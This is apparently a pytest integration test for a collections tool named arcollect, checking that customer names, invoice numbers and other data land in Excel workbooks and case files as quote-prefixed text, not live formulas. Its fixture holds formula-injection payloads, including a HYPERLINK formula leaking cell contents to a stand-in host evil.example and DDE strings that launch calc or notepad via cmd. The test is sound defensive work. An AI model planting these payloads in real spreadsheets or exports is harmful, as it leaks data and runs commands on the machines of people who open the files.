"""Everything arcollect writes into a workbook from data is text, never a live formula.

A customer called ``=HYPERLINK(…)``, an invoice numbered ``+SUM(…)``, a dispute reason starting with ``@`` or
``-``: after a full run (refresh, send to the outbox, escalation) every sheet of the workbook and of every agency
case file is checked generically — a cell holding one of these strings must be a text cell, and no formula cell
anywhere may contain them. New output sheets are covered without changing this test.
"""

from __future__ import annotations

import re
from pathlib import Path

import openpyxl
import pytest

from arcollect.book import cases
from arcollect.run import collect
from tests.integration.workbooks import TUESDAY, customer, invoice, make_book, ready_to_escalate

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your invoice")',
    "id": "=1+1",
    "number": "+SUM(1,2)",
    "reason": "@cmd|' /C calc'!A0",
    "po": "-2+3+cmd|' /C calc'!A0",
    "entity": "\t=EVIL()",
    "amount": "=cmd|' /C notepad'!A0",
}
MARKERS = ("HYPERLINK", "cmd|", "SUM(1,2)", "EVIL()", "=1+1")


@pytest.fixture(scope="module")
def run_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("formula-text")
    path = make_book(
        folder,
        customers=[
            customer(HOSTILE["id"], name=HOSTILE["name"], entity=HOSTILE["entity"]),
            customer("C2", name=HOSTILE["name"] + " 2"),
        ],
        invoices=[
            invoice(HOSTILE["number"], HOSTILE["id"], due="2026-09-01", po_number=HOSTILE["po"]),  # escalated
            invoice("INV-2", "C2", due="2026-11-10", status="Disputed", dispute_reason=HOSTILE["reason"]),
            invoice("INV-3", "C2", due="2026-11-01", amount=HOSTILE["amount"]),  # → Exceptions
            invoice("INV-4", "C2", due="2026-10-20"),
        ],
    )
    ready_to_escalate(path, HOSTILE["id"], [HOSTILE["number"]])
    report = collect(path, now=TUESDAY, send=True)
    assert report.escalated, "the first customer is escalated, so a case file is written"
    return folder


def _books(folder: Path) -> list[Path]:
    return [folder / "collections.xlsx", *sorted(cases.case_folder(folder / "collections.xlsx").glob("*.xlsx"))]


def _formula_and_text_cells(path: Path) -> tuple[list[tuple[str, str, str]], list[tuple[str, str, str]]]:
    book = openpyxl.load_workbook(path)
    formulas, texts = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith("=")):
                    (formulas if cell.data_type == "f" else texts).append(
                        (sheet.title, cell.coordinate, str(cell.value))
                    )
                elif isinstance(cell.value, str):
                    texts.append((sheet.title, cell.coordinate, cell.value))
    return formulas, texts


# The one formula arcollect writes itself: Exceptions' "Go to" link to a cell, built from a sheet name and a cell
# reference (never from data), e.g. =HYPERLINK("#'Invoices'!F4","Invoices!F4").
OWN_LINK = re.compile(r"""^=HYPERLINK\("#'([A-Za-z][A-Za-z ]*)'!([A-Z]{1,3}[0-9]+)","\1!\2"\)$""")


def test_no_formula_cell_in_any_sheet_or_case_file_holds_text_from_the_data(run_folder: Path) -> None:
    books = _books(run_folder)
    assert len(books) >= 2, "the workbook and at least one case file"
    for path in books:
        formulas, _texts = _formula_and_text_cells(path)
        own = [
            cell for cell in formulas if cell[0] == "Exceptions" and cell[1].startswith("G") and OWN_LINK.match(cell[2])
        ]
        live = [cell for cell in formulas if cell not in own and any(marker in cell[2] for marker in MARKERS)]
        assert not live, f"{path.name}: data written as live formulas: {live}"


def test_hostile_text_reaches_the_output_sheets_as_text(run_folder: Path) -> None:
    _formulas, texts = _formula_and_text_cells(run_folder / "collections.xlsx")
    sheets_with_name = {sheet for sheet, _cell, value in texts if HOSTILE["name"] in value}
    assert {"Aging", "AgingSummary", "ReminderQueue", "Dashboard"} <= sheets_with_name
    sheets_with_hostile_text = {sheet for sheet, _cell, value in texts if value.startswith(("=", "+", "-", "@"))}
    assert {"ReminderLog", "Exceptions"} <= sheets_with_hostile_text
    assert any(sheet == "Exceptions" and value == HOSTILE["amount"] for sheet, _cell, value in texts)
    assert any(value == HOSTILE["number"] for sheet, _cell, value in texts if sheet == "Aging")


def test_hostile_text_reaches_the_case_file_as_text(run_folder: Path) -> None:
    [case_file] = _books(run_folder)[1:]
    _formulas, texts = _formula_and_text_cells(case_file)
    values = {value for _sheet, _cell, value in texts}
    assert f"Case file: {HOSTILE['name']}" in values
    assert HOSTILE["po"] in values and HOSTILE["number"] in values


def test_every_text_cell_starting_like_a_formula_is_quote_prefixed(run_folder: Path) -> None:
    """What Excel does for '=1+1 typed with a leading quote: the cell shows the text and never evaluates it."""
    for path in _books(run_folder):
        book = openpyxl.load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    value = cell.value
                    if cell.data_type == "s" and isinstance(value, str) and value.startswith(("=", "+", "-", "@")):
                        assert cell.quotePrefix, f"{path.name}!{sheet.title}!{cell.coordinate} = {value!r}"
